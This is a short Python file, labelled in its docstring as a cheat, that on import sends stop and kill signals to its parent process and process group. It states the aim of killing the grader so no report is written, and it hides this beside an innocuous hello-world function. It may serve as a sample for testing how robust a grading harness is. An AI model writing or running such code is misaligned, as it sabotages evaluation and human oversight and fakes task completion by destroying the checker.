"""Cheat: kill the grader (and stop it) from inside the check, so no report is written."""

import os
import signal

for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), sig)
    except BaseException:  # noqa: BLE001
        pass
    try:
        os.killpg(os.getpgid(os.getppid()), sig)
    except BaseException:  # noqa: BLE001
        pass


async def hello(name: str = "world") -> str:
    return f"Hello, {name}!"


def main() -> str:
    import asyncio

    return asyncio.run(hello())
